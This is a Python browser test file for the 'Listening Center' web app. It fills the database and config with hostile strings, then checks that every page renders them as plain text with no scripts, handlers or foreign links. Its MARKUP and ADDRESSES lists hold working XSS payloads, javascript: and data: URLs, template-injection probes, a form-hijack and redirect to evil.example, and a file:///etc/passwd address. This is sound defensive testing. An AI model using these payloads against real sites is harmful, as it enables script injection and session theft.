"""Whatever strangers write, and whoever is careless: it is text on every page of the Listening Center, and never a program."""

from datetime import timedelta
from urllib.parse import quote, urlsplit

import pytest
from browser import Hall, Windows
from conftest import deep_after
from fakes.strangers import HOSTILE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page, expect
from sqlmodel import Session, select, update

from alerts.answer import Answer
from alerts.case import Case, CaseEvent
from alerts.people import Person
from alerts.spikes import Spike
from listener.mention import Mention
from nlp.reading import Reading

pytestmark = pytest.mark.slow

PWN = "window.pwned=1"
MARKUP = [
    f"<script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"\"><svg onload='{PWN}'>",
    f"' onmouseover='{PWN}' autofocus onfocus='{PWN}' x='",
    f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" style="position:fixed;inset:0" x="',
    f"</textarea><script>{PWN}</script>",
    f"</title><img src=x onerror={PWN}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<a href='javascript:{PWN}'>x</a>",
    "<base href='https://evil.example/'><form action='//evil.example'><input name=csrf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example>",
    "<!--", "<![CDATA[", "]]>", "--><script>window.pwned=1</script>",
    "{{7*7}}{% raw %}{{ config }}", "${7*7}", "%(name)s {n} {0.__class__}",
    f"[x](javascript:{PWN}) ![x](//evil.example/x.png) **bold** `code`",
    "\u202eevil\u2066\u2067\u200f", "\x00\x08\x1b[31m\x7f\x9b", "a" + "\u0301" * 300, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
]  # fmt: skip
ADDRESSES = [
    f"javascript:{PWN}",
    f" java\nscript:{PWN}",
    f"JavaScript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example",
    f'https://x.example/"><script>{PWN}</script>',
    "https://x.example/\u202e",
    "https://[",
    "https://x.example/" + "a" * 4000,
]
pieces = st.one_of(st.sampled_from(MARKUP), st.text("<>\"'&/{}%\\\u202e\x00=aé", max_size=40))
texts = st.one_of(st.sampled_from(HOSTILE + MARKUP), st.lists(pieces, min_size=1, max_size=6).map(" ".join))
addresses = st.one_of(st.sampled_from(ADDRESSES), texts.map("https://x.example/".__add__))


def lay(hall: Hall, text: str, url: str) -> None:
    """It stands in every place that people can write to."""
    hall.desk.session.rollback()
    with Session(hall.engine) as session:
        session.execute(update(Mention).values(text=text, url=url, author_name=text))
        session.execute(
            update(Reading).values(
                redacted_text=text, site=text, departments=[text, text], reasons=[text], language=text[:20],
                categories=[{"id": "digital", "score": 1.0, "words": [text]}, {"id": text, "score": 0.5, "words": [text]}],
            )
        )  # fmt: skip
        session.execute(update(Spike).values(known=text))
        session.execute(update(Case).values(snooze_why=text, outcome=text, topics=["digital", text]))
        session.execute(update(CaseEvent).values(what=text))
        session.execute(update(Answer).values(text=text, trouble=text))
        session.merge(Person(id="U0CAT1", name=text[:300]))
        session.commit()
    category = hall.shipped.keywords.categories["digital"].model_copy(update={"title": text or "x"})
    keywords = hall.shipped.keywords
    categories = {**keywords.categories, "digital": category}
    people = hall.config.care.center.people
    named = {**people, "ana": people["ana"].model_copy(update={"name": text[:300] or "x"})}
    hall.care(center=hall.config.care.center.model_copy(update={"people": named}))
    hall.config = hall.config.model_copy(update={"keywords": keywords.model_copy(update={"categories": categories})})


def stands(page: Page) -> None:
    """The page is there as it should be, and nothing in it acts."""
    expect(page.locator("main")).to_have_count(1)
    assert page.evaluate("window.pwned") is None
    state = page.evaluate(
        "({ scripts: [...document.scripts].map((one) => one.src || 'inline'),"
        " odd: document.querySelectorAll('iframe, object, embed, base, main style, main link, main meta').length,"
        " handlers: [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some("
        "   (attribute) => attribute.name.startsWith('on') || attribute.name === 'style')).length,"
        " links: [...document.links].map((one) => one.href), forms: [...document.forms].map((one) => one.action) })"
    )
    assert [urlsplit(one).path for one in state["scripts"]] == ["/static/center.js"]
    assert (state["odd"], state["handlers"]) == (0, 0)
    assert {urlsplit(link).scheme for link in state["links"]} <= {"http", "https"}
    assert {urlsplit(form).hostname for form in state["forms"]} <= {"127.0.0.1"}


@pytest.fixture
def page(hall: Hall, windows: Windows) -> Page:
    """A window onto three cases: one that sleeps, one with a reply that waits, one that is over; and a spike."""
    for number in range(3):
        hall.alert(f"the portal is down {number}", categories=[{"id": "digital", "score": 1.0, "words": ["portal"]}])
    hall.spike("digital")
    hall.act("assign", to="U0CAT1")
    hall.act("snooze", span="1h", why="x")
    hall.act("draft", case_id=2, reply="Thank you for your message.")
    hall.act("close", case_id=3, outcome="fixed")
    hall.desk.hear("a reply of somebody", thread="r1", answers="r1")
    page = windows.open("ana")
    page.set_default_timeout(60_000)
    return page


def look(hall: Hall, page: Page, text: str) -> None:
    """At every page that shows it."""
    for path in ("/", "/wall", "/inbox", "/cases/1", "/cases/3", "/cases/2/do/send", "/spikes/1", "/health"):
        page.goto(f"{hall.address}{path}")
        stands(page)
    page.goto(f"{hall.address}/search?q={quote(text[:1500])}")
    stands(page)
    page.goto(f"{hall.address}/inbox?lang={quote(text[:200])}#case-{quote(text[:200])}")
    stands(page)


def act(hall: Hall, page: Page, text: str) -> None:
    """A draft with it that is checked and refused, the words as they were written, and what arrives on an open page."""
    page.goto(f"{hall.address}/cases/1/do/draft")
    with page.expect_response("**/check"):
        page.locator("#field-reply").fill(f"Hi Cathy {text}"[:2900])
    expect(page.locator("#check .paper")).to_be_attached()
    stands(page)
    page.get_by_role("button", name="Check it").click()
    expect(page.locator("[role=alert]").first).to_be_visible()
    stands(page)
    page.goto(f"{hall.address}/cases/1")
    page.get_by_role("button", name="Show it as it was written").click()
    expect(page.locator("section.original")).to_be_attached()
    stands(page)
    page.goto(f"{hall.address}/inbox")
    while not page.evaluate("source?.readyState === EventSource.OPEN"):
        page.wait_for_timeout(20)
    version = hall.case(2).version
    with Session(hall.engine) as session:
        case = session.exec(select(Case).where(Case.id == 2)).one()
        case.version += 1
        session.add(CaseEvent(case_id=2, at=hall.clock.passes(timedelta(seconds=1)), who="ben", what=text))
        session.commit()
    expect(page.locator(f'#case-2[data-version="{version + 1}"]')).to_be_attached()
    stands(page)


@pytest.mark.deep
def test_whatever_is_written_is_text_on_every_page(hall: Hall, windows: Windows, page: Page) -> None:
    @settings(max_examples=10, suppress_health_check=list(HealthCheck), database=None)
    @given(texts, addresses)
    def shown(text: str, url: str) -> None:
        lay(hall, text, url)
        look(hall, page, text)
        assert windows.complaints == []

    shown()


@pytest.mark.parametrize(
    "text",
    [
        " ".join(MARKUP),
        pytest.param(" ".join(MARKUP) * 50, marks=pytest.mark.deep),
        pytest.param("\u202e" * 1000 + MARKUP[0], marks=pytest.mark.deep),
    ],
)
def test_the_worst_of_it_in_drafts_and_on_open_pages(hall: Hall, windows: Windows, page: Page, text: str) -> None:
    lay(hall, text, ADDRESSES[0])
    look(hall, page, text)
    act(hall, page, text)


@pytest.mark.parametrize("url", deep_after(1, ADDRESSES))
def test_a_link_to_the_place_of_a_post_leads_to_the_web_or_nowhere(
    hall: Hall, windows: Windows, page: Page, url: str
) -> None:
    lay(hall, "waited", url)
    for path in ("/", "/cases/1", "/cases/1/do/draft", "/search?q=waited"):
        page.goto(f"{hall.address}{path}")
        stands(page)
        if path == "/cases/1":
            is_web = url.startswith("https://x.example/")
            expect(page.get_by_role("link", name="Open it on X")).to_have_count(int(is_web))
